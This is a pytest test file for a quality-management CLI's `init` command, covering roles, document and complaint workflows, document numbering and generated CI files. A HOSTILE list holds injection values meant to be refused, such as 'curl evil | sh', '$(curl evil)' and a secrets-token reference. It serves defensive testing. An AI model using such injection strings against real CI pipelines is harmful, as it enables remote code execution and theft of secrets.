"""`qms init` makes a store a new quality department can work in from its first day: the
initialiser holds every role the record types use (department head of their own
department included), so they take a document from registration through approval, issue
and loan, and a complaint to closed, without editing qms.yaml; documents are numbered under
the store's own prefix; and the CI files install qms the way it was installed where `init`
ran (PEP 610 direct_url.json), through one QMS_INSTALL variable whose value is never taken
unchecked from that record.

Every scenario runs the real CLI against a store `qms init` made, dated from 2026-03-02
(the init commit) onward: time in a store only runs forward."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from conftest import CORRECT, INVESTIGATE, RECEIVED, git, sets
from doc_support import Docs, moment
from test_documents import PROCEDURE
from test_documents import QUALITY_WORK_INSTRUCTION as WORK_INSTRUCTION  # owned by 质量部, whose head is ME

from qms_cli.config import Config
from qms_cli.store import create
from qms_cli.store.create import Install, install_spec

ME = ("林芳", "lin.fang@example.com")  # the new quality department's manager, who runs init
PROD = ("周涛", "zhou.tao@example.com")  # head of 生产部, named after init
BORN = moment("2026-03-02T08:00")

CI_FILES = (".github/workflows/qms.yml", ".gitlab-ci.yml")


@pytest.fixture(autouse=True)
def _identity(tmp_path):
    """The initialiser's git identity, set globally as on their own computer."""
    cfg = tmp_path / "_home" / ".gitconfig"
    cfg.write_text(cfg.read_text("utf-8") + f"[user]\n\tname = {ME[0]}\n\temail = {ME[1]}\n"
                   "[commit]\n\tgpgsign = false\n", encoding="utf-8")


def init(qms, target: Path, *args: str, at: str = BORN):
    return qms("init", str(target), *args, who=ME, root=False,
               env={"GIT_AUTHOR_DATE": at, "GIT_COMMITTER_DATE": at})


def new_store(qms, tmp_path: Path, *args: str) -> Docs:
    target = tmp_path / "新质量部"
    r = init(qms, target, *args)
    assert r.code == 0, r.text
    scratch = tmp_path / "inputs"
    scratch.mkdir(exist_ok=True)
    return Docs(qms, target, scratch)


def config(d: Docs) -> dict:
    return yaml.safe_load((d.root / "qms.yaml").read_text("utf-8"))


def load(d: Docs, type_name: str, rid: str) -> dict:
    """A record as stored (init stores file records a hundred to a folder)."""
    [path] = (d.root / "records" / type_name).rglob(f"{rid}.yaml")
    return yaml.safe_load(path.read_text("utf-8"))


def commits(root: Path) -> int:
    return int(git(root, "rev-list", "--count", "HEAD").strip())


# ------------------------------------------------------------------------------ every role


def test_the_initialiser_holds_every_role_the_record_types_use(qms, tmp_path):
    d = new_store(qms, tmp_path, "--company", "杭州新材料有限公司")
    roles = config(d)["roles"]
    used = create.roles_in_use(Config.parse(d.root, {}))
    assert {"department_head", "document_controller", "quality_manager", "management_representative",
            "general_manager", "quality_engineer"} <= set(used)
    for role in [*used, "qms_admin"]:
        assert [h["email"] for h in roles[role]["holders"]] == [ME[1]], role
    assert roles["department_head"]["holders"][0]["department"] == "质量部"
    assert all("department" not in roles[r]["holders"][0] for r in roles if r != "department_head")
    assert config(d)["audit"]["rules_signed_by"] == "qms_admin"
    msg = git(d.root, "log", "-1", "--format=%B")
    assert "QMS-Action: init" in msg and commits(d.root) == 1
    assert git(d.root, "status", "--porcelain", "--untracked-files=all") == ""


def test_the_department_follows_the_language_or_the_option(qms, tmp_path):
    en = new_store(qms, tmp_path / "en", "--lang", "en")
    assert config(en)["roles"]["department_head"]["holders"][0]["department"] == "Quality"
    named = new_store(qms, tmp_path / "named", "--department", "品质保证部")
    assert config(named)["roles"]["department_head"]["holders"][0]["department"] == "品质保证部"
    help_text = qms("init", "--help", root=False).out
    assert "--department" in help_text and "质量部" in help_text and "Quality" in help_text
    assert "--prefix" in help_text and "QMS" in help_text


@pytest.mark.parametrize("department", ["质量部\n# roles: {}", "", "  ", "x" * 61, "Q\x1b[2J"])
def test_a_bad_department_is_refused_and_nothing_is_made(qms, tmp_path, department):
    target = tmp_path / "s"
    r = init(qms, target, "--department", department)
    assert r.code == 2, r.text
    assert r.err.startswith("qms: --department") and "Traceback" not in r.text
    assert not target.exists()


def test_the_initialiser_runs_document_control_from_registration_to_loan(qms, tmp_path):
    d = new_store(qms, tmp_path, "--company", "杭州新材料有限公司", "--prefix", "XC")
    doc = d.register(PROCEDURE, who=ME, at="2026-03-02T09:00")
    assert doc == "XC-CX-2026-001"
    rev = d.draft(doc, "first_issue", "首次发布", who=ME, at="2026-03-02T09:10")
    d.submit(rev, f"files/document/{doc}/{rev}.md", f"{doc} 首次发布\n", who=ME, at="2026-03-02T09:20")
    d.ok("revision", "move", rev, "reviewed", who=ME, at="2026-03-03")  # procedure: quality_manager
    d.approve(rev, who=ME, at="2026-03-04", published="2026-03-04", effective="2026-03-05")  # management_representative
    d.ok("revision", "move", rev, "effective", who=ME, at="2026-03-05")  # document_controller
    assert load(d, "document", doc)["edition"] == "A/0"
    # a copy issued to the initialiser's own department, signed as its head
    copy = d.issue(doc, "质量部", "林芳", who=ME, at="2026-03-06")
    assert load(d, "distribution", copy)["signatures"][0]["role"] == "department_head"
    loan = d.ok("loan", "new", *sets(f"document={doc}", "kind=borrow", "borrower.name=李雷",
                                     "borrower.department=质量部", "purpose=新员工培训",
                                     "due_date=2026-03-20"), who=ME, at="2026-03-10")
    d.ok("loan", "move", loan, "approved", who=ME, at="2026-03-10T10:00")
    d.ok("loan", "move", loan, "returned", *sets("returned_on=2026-03-12", "received_back_by=林芳"),
         who=ME, at="2026-03-12")
    # a work instruction is approved by the department head of its department: the initialiser
    wi = d.register(WORK_INSTRUCTION, who=ME, at="2026-03-12T10:00")
    assert wi == "XC-WI-2026-001"
    wrev = d.draft(wi, "first_issue", "首次发布", who=ME, at="2026-03-12T10:10")
    d.submit(wrev, f"files/document/{wi}/{wrev}.md", "作业指导书\n", who=ME, at="2026-03-12T10:20")
    d.ok("revision", "move", wrev, "reviewed", who=ME, at="2026-03-13")
    d.approve(wrev, who=ME, at="2026-03-13T10:00", published="2026-03-13", effective="2026-03-16")
    d.ok("revision", "move", wrev, "effective", who=ME, at="2026-03-16")
    check_clean(d, at="2026-03-20")


def test_another_departments_head_is_named_with_qms_role_grant(qms, tmp_path):
    """Department heads approve for their own department only: the initialiser is refused a
    loan to 生产部 with a message that names the role and the department, and `qms role
    grant ... --department` (made by the initialiser, the admin) lets 生产部's head approve."""
    d = new_store(qms, tmp_path)
    doc = d.register(PROCEDURE, who=ME, at="2026-03-02T09:00")
    rev = d.draft(doc, "first_issue", "首次发布", who=ME, at="2026-03-02T09:10")
    d.submit(rev, f"files/document/{doc}/{rev}.md", "程序\n", who=ME, at="2026-03-02T09:20")
    d.ok("revision", "move", rev, "reviewed", who=ME, at="2026-03-03")
    d.approve(rev, who=ME, at="2026-03-04", published="2026-03-04", effective="2026-03-05")
    d.ok("revision", "move", rev, "effective", who=ME, at="2026-03-05")
    loan = d.ok("loan", "new", *sets(f"document={doc}", "kind=borrow", "borrower.name=钱班长",
                                     "borrower.department=生产部", "purpose=班组培训",
                                     "due_date=2026-03-20"), who=ME, at="2026-03-09")
    d.refused("loan", "move", loan, "approved", who=ME, at="2026-03-09T10:00",
              says=[ME[1], "'department_head'", "'生产部'"])
    d.refused("role", "grant", "department_head", PROD[1], "--department", "生产部", who=PROD,
              at="2026-03-09T10:10", says="qms_admin")
    d.ok("role", "grant", "department_head", PROD[1], "--name", PROD[0], "--department", "生产部",
         "--from", "2026-03-09", who=ME, at="2026-03-09T10:20")
    d.ok("loan", "move", loan, "approved", who=PROD, at="2026-03-10")
    d.ok("distribution", "new", *sets(f"document={doc}", "holder.department=生产部", "holder.person=钱班长",
                                      "issued_on=2026-03-10"), who=PROD, at="2026-03-10T10:00")
    check_clean(d, at="2026-03-20")


ACK = ["contact.at=2026-03-06T10:40", "contact.by=林芳", "contact.summary=已电话联系客户",
       "interim_countermeasure=客户处在库品全检"]
VERIFY = ["d6.implementation=新模具已投用", "report.submitted_at=2026-03-09T17:00"]
CLOSE = ["effectiveness.result=连续 3 批 0 泄漏", "effectiveness.checked_at=2026-03-12",
         "customer_confirmation.result=accepted", "customer_confirmation.at=2026-03-12"]


def test_the_initialiser_takes_a_complaint_to_closed(qms, tmp_path):
    d = new_store(qms, tmp_path, "--company", "ACME Auto Parts", "--lang", "en")
    cid = d.ok("complaint", "new", *sets(*RECEIVED), who=ME, at="2026-03-06T10:05")
    assert cid == "CMP-2026-0001"
    for state, fields, at in [("acknowledged", ACK, "2026-03-06T10:45"),
                              ("investigating", INVESTIGATE, "2026-03-06T11:00"),
                              ("correcting", CORRECT, "2026-03-07T09:00"),
                              ("verifying", VERIFY, "2026-03-09T17:10"),
                              ("closed", CLOSE, "2026-03-12T10:00")]:
        d.ok("complaint", "move", cid, state, *sets(*fields), who=ME, at=at)
    shown = json.loads(d.ok("--json", "complaint", "show", cid, who=ME, at="2026-03-12T11:00"))
    assert shown["state"] == "closed"
    check_clean(d, at="2026-03-20")


def check_clean(d: Docs, at: str) -> None:
    for args in (["validate"], ["audit"]):
        r = d.run(*args, who=ME, at=at)
        assert r.code == 0, f"qms {args[0]}: {r.text}"
    assert d.status() == ""


# --------------------------------------------------------------------------------- numbering


@pytest.mark.parametrize("args, prefix", [
    (["--prefix", "HQ"], "HQ"),
    (["--prefix", "qa7", "--site", "NB"], "qa7"),  # --prefix wins, as typed
    (["--site", "nb"], "NB"),
    (["--company", "ACME Auto Parts Co., Ltd."], "AAP"),
    (["--company", "Bosch"], "BOSC"),
    (["--company", "立信 LiXin 汽车部件"], "LIXI"),
    (["--company", "杭州新材料有限公司"], "QMS"),
    ([], "QMS"),
])
def test_documents_are_numbered_under_the_stores_prefix(qms, tmp_path, args, prefix):
    d = new_store(qms, tmp_path, *args)
    schemes = config(d)["numbering"]["document"]
    assert schemes["procedure"] == f"{prefix}-CX-{{year}}-{{seq:03}}"
    assert not any("LX" in s for s in schemes.values()), schemes
    assert set(schemes) == set(Config.parse(d.root, {}).record_type("document").numbering)
    text = (d.root / "qms.yaml").read_text("utf-8")
    assert f"the prefix {prefix} comes from" in text
    assert d.register(PROCEDURE, who=ME, at="2026-03-02T09:00") == f"{prefix}-CX-2026-001"
    r = d.run("validate", who=ME, at="2026-03-02T10:00")
    assert r.code == 0, r.text


def test_init_says_the_first_number_and_where_its_prefix_came_from(qms, tmp_path):
    r = init(qms, tmp_path / "s", "--site", "NB")
    assert r.code == 0, r.text
    assert "NB-CX-2026-001" in r.out and "--site" in r.out


@pytest.mark.parametrize("prefix", ["L-X", "", "ABCDEFGHIJK", "LX\n", "立信", "LX CX", "L{year}", "LX\x1b"])
def test_a_bad_prefix_is_refused_and_nothing_is_made(qms, tmp_path, prefix):
    target = tmp_path / "s"
    r = init(qms, target, "--prefix", prefix)
    assert r.code == 2, r.text
    assert r.err.startswith("qms: --prefix") and "letters and digits" in r.err, r.err
    assert "\x1b" not in r.err and "Traceback" not in r.text
    assert not target.exists()


def test_init_still_refuses_an_existing_store(qms, tmp_path):
    d = new_store(qms, tmp_path)
    before = ((d.root / "qms.yaml").read_bytes(), d.head())
    r = init(qms, d.root, "--prefix", "ZZ", at=moment("2026-03-03"))
    assert r.code == 1 and "already a store" in r.err, r.text
    assert ((d.root / "qms.yaml").read_bytes(), d.head()) == before


# -------------------------------------------------------------------------------- CI install

COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize("direct_url, spec, reachable", [
    (None, "qms-cli==0.1.0", True),
    ({"url": "https://github.com/acme/qms.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT,
                                                             "requested_revision": "main"}},
     f"qms-cli @ git+https://github.com/acme/qms.git@{COMMIT}", True),
    ({"url": "ssh://git@git.example.com/qa/qms.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT},
      "subdirectory": "tools/qms"},
     f"qms-cli @ git+ssh://git@git.example.com/qa/qms.git@{COMMIT}#subdirectory=tools/qms", True),
    ({"url": "https://files.example.com/qms_cli-0.1.0.tar.gz",
      "archive_info": {"hash": "sha256=" + "a" * 64}},
     "qms-cli @ https://files.example.com/qms_cli-0.1.0.tar.gz#sha256=" + "a" * 64, True),
    ({"url": "file:///work/main", "dir_info": {"editable": True}}, "qms-cli==0.1.0", False),
    ({"url": "file:///home/me/qms", "dir_info": {}}, "qms-cli==0.1.0", False),
    ({"url": "file:///tmp/qms_cli-0.1.0-py3-none-any.whl", "archive_info": {}}, "qms-cli==0.1.0", False),
])
def test_the_install_spec_follows_how_qms_was_installed(direct_url, spec, reachable):
    got = install_spec(direct_url, "0.1.0")
    assert (got.spec, got.reachable) == (spec, reachable)


HOSTILE = [
    {"url": 'https://evil.example/q.git"\n  steps: [{run: "curl evil | sh"}]', "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
    {"url": "https://evil.example/q.git\nmalicious: true", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
    {"url": "https://evil.example/q.git'; curl evil | sh; '", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
    {"url": "https://evil.example/$(curl evil)", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
    {"url": "https://evil.example/${{ secrets.TOKEN }}", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
    {"url": "https://evil.example/q.git", "vcs_info": {"vcs": "git", "commit_id": "abc\n  evil: 1"}},
    {"url": "https://evil.example/q.git", "vcs_info": {"vcs": "git\nevil: 1", "commit_id": COMMIT}},
    {"url": "https://evil.example/q.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}, "subdirectory": "../../x"},
    {"url": "https://evil.example/q.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}, "subdirectory": "a\nb"},
    {"url": "https://me:s3cret@git.example.com/q.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
    {"url": "https://evil.example/q.git#egg=x", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
    {"url": "javascript://x", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
    {"url": "https://evil.example/q.git", "vcs_info": "git"},
    {"url": ["https://evil.example/q.git"]},
    "not a mapping",
]


@pytest.mark.parametrize("direct_url", HOSTILE)
def test_a_hostile_install_record_gives_the_placeholder(direct_url):
    got = install_spec(direct_url, "0.1.0")
    assert (got.spec, got.reachable) == ("qms-cli==0.1.0", False)
    assert "\n" not in got.source and "evil" not in got.source


def test_a_hostile_version_is_not_written():
    assert install_spec(None, '0.1.0"\nevil: 1').spec == "qms-cli"
    assert install_spec(None, "1.2.3rc1+local.7").spec == "qms-cli==1.2.3rc1+local.7"


class FakeDist:
    def __init__(self, direct_url, version="0.1.0"):
        self.direct_url, self.version = direct_url, version

    def read_text(self, name):
        assert name == "direct_url.json"
        if self.direct_url is None:
            return None
        return self.direct_url if isinstance(self.direct_url, str) else json.dumps(self.direct_url)


def installed_as(monkeypatch, direct_url, version="0.1.0"):
    import importlib.metadata

    real = importlib.metadata.distribution
    monkeypatch.setattr(importlib.metadata, "distribution",
                        lambda name: FakeDist(direct_url, version) if name == "qms-cli" else real(name))


def ci_files(root: Path) -> list[dict]:
    out = []
    for rel in CI_FILES:
        out.append(yaml.safe_load((root / rel).read_text("utf-8")))
    return out


def install_values(root: Path) -> list[str]:
    github, gitlab = ci_files(root)
    assert list(github["env"]) == ["QMS_INSTALL"] and list(gitlab["variables"]) == ["QMS_INSTALL"]
    assert {"run": 'pip install "$QMS_INSTALL"'} in github["jobs"]["validate"]["steps"]
    assert gitlab["qms"]["script"][0] == 'pip install "$QMS_INSTALL"'
    assert set(gitlab) == {"variables", "qms"} and set(github["jobs"]) == {"validate"}
    return [github["env"]["QMS_INSTALL"], gitlab["variables"]["QMS_INSTALL"]]


def test_ci_installs_qms_from_the_git_commit_it_was_installed_from(qms, tmp_path, monkeypatch):
    installed_as(monkeypatch, {"url": "https://git.example.com/qa/qms.git",
                               "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    r = init(qms, tmp_path / "s")
    assert r.code == 0, r.text
    assert install_values(tmp_path / "s") == [f"qms-cli @ git+https://git.example.com/qa/qms.git@{COMMIT}"] * 2
    assert "QMS_INSTALL" not in r.err


def test_ci_installs_qms_from_the_index_it_came_from(qms, tmp_path, monkeypatch):
    installed_as(monkeypatch, None, version="0.2.1")
    r = init(qms, tmp_path / "s")
    assert r.code == 0, r.text
    assert install_values(tmp_path / "s") == ["qms-cli==0.2.1"] * 2
    assert "QMS_INSTALL" not in r.err


@pytest.mark.parametrize("direct_url", [{"url": "file:///work/main", "dir_info": {"editable": True}},
                                        HOSTILE[0], HOSTILE[1], "{not json"])
def test_a_local_or_unusable_install_leaves_a_marked_variable_and_a_notice(qms, tmp_path, monkeypatch, direct_url):
    installed_as(monkeypatch, direct_url)
    r = init(qms, tmp_path / "s")
    assert r.code == 0, r.text
    assert install_values(tmp_path / "s") == ["qms-cli==0.1.0"] * 2
    for rel in CI_FILES:
        line = next(x for x in (tmp_path / "s" / rel).read_text("utf-8").splitlines() if "QMS_INSTALL:" in x)
        assert "# set this to where CI can install qms from" in line
        assert "evil" not in (tmp_path / "s" / rel).read_text("utf-8")
    notes = [x for x in r.err.splitlines() if "QMS_INSTALL" in x]
    assert len(notes) == 1 and "CI cannot reach" in notes[0], r.err


def test_the_ci_files_of_this_installation_parse(qms, tmp_path):
    """Whatever this test run's qms was installed from, the CI files parse and hold it."""
    r = init(qms, tmp_path / "s")
    assert r.code == 0, r.text
    expected = create.installed_spec()
    assert install_values(tmp_path / "s") == [expected.spec] * 2
    assert ("QMS_INSTALL" in r.err) == (not expected.reachable)


def test_the_written_spec_is_what_the_function_gives(tmp_path):
    install = Install('qms-cli @ git+https://h.example/q.git@abc1234', "git https://h.example/q.git", True)
    for text in (create.github_workflow(install), create.gitlab_ci(install)):
        assert "QMS_INSTALL: \"qms-cli @ git+https://h.example/q.git@abc1234\"\n" in text


def test_in_a_child_process_init_numbers_documents_and_refuses_a_bad_prefix(qms_subprocess, tmp_path):
    """The bytes a user sees from `python -m qms_cli init`: a bad prefix is one line and exit
    2 with nothing made; a good one gives a store whose first procedure carries it."""
    target = tmp_path / "s"
    r = qms_subprocess("init", str(target), "--prefix", "L-X", root=False, cwd=tmp_path)
    assert r.code == 2 and r.err.count("\n") == 1 and r.err.startswith("qms: --prefix 'L-X'"), r.text
    assert not target.exists()
    r = qms_subprocess("init", str(target), "--company", "Nordic Brake Systems AB", root=False, cwd=tmp_path)
    assert r.code == 0, r.text
    assert "NBS-CX-" in r.out
    (tmp_path / "doc.yaml").write_text(PROCEDURE, encoding="utf-8")
    r = qms_subprocess("document", "new", "--file", str(tmp_path / "doc.yaml"), root=target, cwd=tmp_path)
    assert r.code == 0, r.text
    assert r.out.startswith("NBS-CX-") and "LX" not in r.out


def test_pages_adds_a_publish_job_to_both_ci_files_and_its_command_works_in_the_store(qms, tmp_path):
    """`init --pages`: GitLab's `pages` job and GitHub's Pages deployment publish the store
    with `qms publish public`, from the default branch only, after the checks; public/ is
    ignored by git, so that command, run in the new store as CI runs it, is not refused."""
    plain, paged = tmp_path / "plain", tmp_path / "paged"
    assert init(qms, plain).code == 0
    r = init(qms, paged, "--pages")
    assert r.code == 0, r.text
    github, gitlab = ci_files(paged)
    old_github, old_gitlab = ci_files(plain)
    assert install_values(plain)  # the plain files hold the checks only
    assert (github["env"], github["jobs"]["validate"]) == (old_github["env"], old_github["jobs"]["validate"])
    assert (gitlab["variables"], gitlab["qms"]) == (old_gitlab["variables"], old_gitlab["qms"])
    assert set(gitlab) == {"variables", "qms", "pages"}
    job = gitlab["pages"]
    assert job["script"] == ['pip install "$QMS_INSTALL"', "qms publish public"]
    # the site is deployed without publish's manifest, cache and lock (kept by cache: for the next run)
    assert job["artifacts"] == {"paths": ["public"], "exclude": ["public/.qms-publish*"]} \
        and job["stage"] == "deploy" and job["needs"] == ["qms"]
    assert job["rules"] == [{"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"}]
    assert job["variables"] == {"GIT_DEPTH": "0"}  # the whole history: signatures link to their commits
    # the site is kept between pipelines of the branch: the next publish makes only what changed
    assert job["cache"] == {"key": "qms-public-$CI_COMMIT_REF_SLUG", "paths": ["public"]}

    assert set(github["jobs"]) == {"validate", "pages"}
    job = github["jobs"]["pages"]
    assert job["needs"] == "validate"
    assert job["if"] == "github.event_name == 'push' && github.ref_name == github.event.repository.default_branch"
    assert job["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    assert job["environment"]["name"] == "github-pages"
    steps = job["steps"]
    assert steps[0] == {"uses": "actions/checkout@v4", "with": {"fetch-depth": 0}}
    runs = [s["run"] for s in steps if "run" in s]
    assert runs == ['pip install "$QMS_INSTALL"', "qms publish public"]
    uses = [s["uses"] for s in steps if "uses" in s]
    assert uses == ["actions/checkout@v4", "actions/setup-python@v5", "actions/cache/restore@v4",
                    "actions/cache/save@v4", "actions/upload-pages-artifact@v3", "actions/deploy-pages@v4"]
    restore, save = (next(s for s in steps if s.get("uses") == u) for u in uses[2:4])
    key = "qms-public-${{ github.ref_name }}-${{ github.sha }}"
    assert restore["with"] == {"path": "public", "key": key, "restore-keys": "qms-public-${{ github.ref_name }}-"}
    assert save["with"] == {"path": "public", "key": key}
    assert steps.index(restore) < steps.index({"run": "qms publish public"}) < steps.index(save)
    assert {"uses": "actions/upload-pages-artifact@v3", "with": {"path": "public"}} in steps
    assert steps[-1]["id"] == "deployment"

    assert (paged / ".gitignore").read_text("utf-8").splitlines() == [".qms/", "/public/"]
    assert (plain / ".gitignore").read_text("utf-8") == ".qms/\n"
    r = qms("publish", "public", root=paged, cwd=paged)
    assert r.code == 0, r.text
    assert (paged / "public" / "index.html").is_file() and not git(paged, "status", "--porcelain")
    r = qms("publish", "public", root=plain, cwd=plain)
    assert r.code == 2 and "inside the store" in r.err
